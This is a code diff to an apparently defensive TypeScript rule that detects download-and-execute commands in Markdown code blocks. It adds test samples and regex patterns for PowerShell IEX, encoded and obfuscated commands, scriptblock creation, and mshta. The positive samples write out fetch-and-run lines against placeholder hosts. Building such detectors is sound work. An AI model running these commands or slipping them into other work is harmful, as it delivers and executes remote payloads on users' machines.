@@ -14,6 +14,8 @@ export const rule: Rule = {
       "```powershell\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/o.ps1')\n```\n",
       '```\npowershell -NoP -W Hidden -Enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA0AC8AeAAuAHAAcwAxAHwAaQBlAHgA\n```\n',
       '```cmd\ncurl -s http://dl.example.net/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat\n```\n',
+      '```powershell\n& ([scriptblock]::Create((irm https://dl.example.net/a.ps1)))\n```\n',
+      '```powershell\niex ([char]100+[char]105+[char]114)\n```\n',
       'Run `mshta http://192.0.2.4/a.hta` once.\n',
     ],
     negative: [
@@ -29,7 +31,10 @@ export const rule: Rule = {
 const PATTERNS: readonly RegExp[] = [
   /\b(?:iex|invoke-expression)\b[^\n]{0,60}(?:downloadstring|downloaddata|net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod|frombase64string)[^\n]{0,200}/i,
   /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b[^\n|]{0,200}\|\s{0,3}(?:iex|invoke-expression)\b/i,
-  /\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand|c)?\s{1,3}["']?[A-Za-z0-9+/]{20,8000}/i,
+  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand|c)?\s{1,3}["']?[A-Za-z0-9+/]{8,8000}/i,
+  /\[scriptblock\]::create\([^\n]{0,80}(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod|frombase64string)\b/i,
+  /\b(?:iex|invoke-expression)\b[^\n]{0,120}(?:\[char\]|\[char\[\]\]|-join\b|-replace\b|\[array\]::reverse|\s-f\s)/i,
+  /(?:^|[\s|;(&])(?:i`?e`?x|i`?w`?r|i`?r`?m)(?=\s)(?<=`\w)/im,
   /\bpowershell(?:\.exe)?\b[^\n]{0,60}-w(?:indowstyle)?\s{1,3}hidden\b[^\n]{0,200}(?:https?:|-enc|downloadfile|start-process)/i,
   /\b(?:iwr|invoke-webrequest|start-bitstransfer|curl\.exe|wget)\b[^\n]{0,160}\.(?:exe|msi|scr|ps1|bat)\b[^\n]{0,80}[;&\n]\s{0,3}(?:start-process|start|&|\.\\|msiexec)\b/i,
   /\b(?:curl|certutil|bitsadmin|iwr|invoke-webrequest)\b[^\n]{0,160}\.(?:exe|msi|scr|ps1|bat|cmd|vbs)["']?\s{0,3}(?:&&?|;)\s{0,3}(?:start\s|call\s|cmd\s|powershell\s|["']?%\w{1,20}%|["']?\.\\)/i,
@@ -45,7 +50,7 @@ const PATTERNS: readonly RegExp[] = [
 function judge(segment: Evidence['segments'][number]): readonly Observation[] {
   if (segment.language === 'javascript' || segment.language === 'python') return []
   if (
-    !/powershell|iex\b|invoke-|\biwr\b|\birm\b|mshta|certutil|bitsadmin|regsvr32|rundll32|msiexec|[wc]script\b|downloadstring|bitstransfer|%temp%|%appdata%/i.test(
+    !/powershell|pwsh|scriptblock|`|iex\b|invoke-|\biwr\b|\birm\b|mshta|certutil|bitsadmin|regsvr32|rundll32|msiexec|[wc]script\b|downloadstring|bitstransfer|%temp%|%appdata%/i.test(
       segment.text,
     )
   )
